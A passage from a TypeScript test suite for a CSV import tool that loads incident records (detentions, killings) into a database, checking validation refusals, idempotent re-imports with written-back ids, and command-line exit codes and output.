      const unsourced = await write('hand-public.csv', [header, 'DETENTION,Published without a source,2019-03,MONTH,RU,,,PUBLIC'].join('\n'));
      expect(await refusal([unsourced])).toEqual([
        'hand-public.csv:2: the new incident would be PUBLIC without citing a source the public can see: cite a PUBLIC source, or keep it RESTRICTED or CONFIDENTIAL',
      ]);

      const before = await fingerprint(db);
      const bad = await write('hand-bad.csv', [header, rows[0], 'KILLING,Counted in words,2019-05-02,DAY,RU,two,DOCUMENTED,RESTRICTED', rows[1]].join('\n'));
      expect(await refusal([bad])).toEqual(['hand-bad.csv:3 victims_best: must be a whole number (e.g. 2), not words or a range: put ranges in victims_at_least and victims_at_most']);
      expect(await fingerprint(db)).toEqual(before);

      const fixed = await write('hand.csv', [header, rows[0], 'KILLING,Counted in words,2019-05-02,DAY,RU,2,DOCUMENTED,RESTRICTED', rows[1]].join('\n'));
      const summary = await importing([fixed]);
      expect(summary.files[0]).toMatchObject({ rows: 3, created: 3, updated: 0, unchanged: 0 });
      const created = summary.files[0].newIds;
      expect(created.map((n) => n.line)).toEqual([2, 3, 4]);
      const stored = await db.query(`SELECT id, region_code, headline FROM incident WHERE id = ANY($1::uuid[]) ORDER BY headline`, [created.map((n) => n.id)]);
      expect(stored.map((r: { region_code: string }) => r.region_code)).toEqual(['RU', 'GE', 'RU-CE']);

      // The copy with ids, imported again, changes nothing: the file is now an export like any other.
      const withIds = await writeIds(summary.files[0]);
      expect(withIds).toBe(join(dir, 'hand.with-ids.csv'));
      const copy = await readRecords(withIds);
      expect(copy.header).toEqual(['id', ...header.split(',')]);
      expect(copy.rows.map((r) => r.cells[0])).toEqual(created.map((n) => n.id));
      expect(copy.rows.map((r) => r.cells.slice(1))).toEqual((await readRecords(fixed)).rows.map((r) => r.cells));
      const again = await importing([withIds]);
      expect(again.files[0]).toMatchObject({ rows: 3, created: 0, updated: 0, unchanged: 3, newIds: [] });
    });
  });

  describe('command line', () => {
    async function vigil(...args: string[]) {
      const env = { ...process.env, DATABASE_URL: target.url, CI: 'true' };
      try {
        const { stdout, stderr } = await promisify(execFile)(process.execPath, [CLI, ...args], { env, cwd: dir });
        return { code: 0, stdout, stderr };
      } catch (e) {
        const err = e as { code: number; stdout: string; stderr: string };
        return { code: err.code, stdout: err.stdout, stderr: err.stderr };
      }
    }

    it('prints every problem and exits with code 2, or the counts and 0', async () => {
      const header = exported.incidents.toString('utf8').split('\n')[0];
      const cells = header.split(',').map((h) => ({ id: '00000000-0000-4000-8000-000000000009', kind: 'DETENTION', date_start: '2017', date_precision: 'YEAR', region_code: 'RU' })[h] ?? '');
      await write('cli-bad.csv', `${header}\n${cells.join(',')}\n`);
      const bad = await vigil('import', 'cli-bad.csv');
      expect(bad).toMatchObject({ code: 2, stdout: '' });
      expect(bad.stderr).toBe('error: cli-bad.csv:2 headline: is required\nerror: import: 1 problem: nothing was imported\n');

      await write('cli-hand.csv', 'kind,headline,date_start,date_precision,region_code,confidentiality\nDETENTION,From the command line,2019,YEAR,am,RESTRICTED\n');
      const listed = await vigil('import', 'cli-hand.csv');
      expect(listed.stdout).toMatch(/^cli-hand\.csv \(incidents\): 1 rows: 1 created, 0 updated, 0 unchanged\n  line 2: new id [0-9a-f-]{36}\n/);
      const copied = await vigil('import', '--write-ids', 'cli-hand.csv');
      expect(copied.stdout).toContain(`  1 rows had no id: the copy with their new ids is cli-hand.with-ids.csv\n`);
      expect((await readRecords(join(dir, 'cli-hand.with-ids.csv'))).header[0]).toBe('id');

      const good = await vigil('import', 'sources.csv', 'incidents.csv');
      expect(good.code).toBe(0);
      expect(good.stdout).toMatch(/^sources\.csv \(sources\): (\d+) rows: 0 created, 0 updated, \1 unchanged\nincidents\.csv \(incidents\): (\d+) rows: 0 created, 0 updated, \2 unchanged\nImported \d+ rows in [\d.]+ s \(\d+ rows\/s\): 0 created, 0 updated, \d+ unchanged\n$/);
    });
  });
});
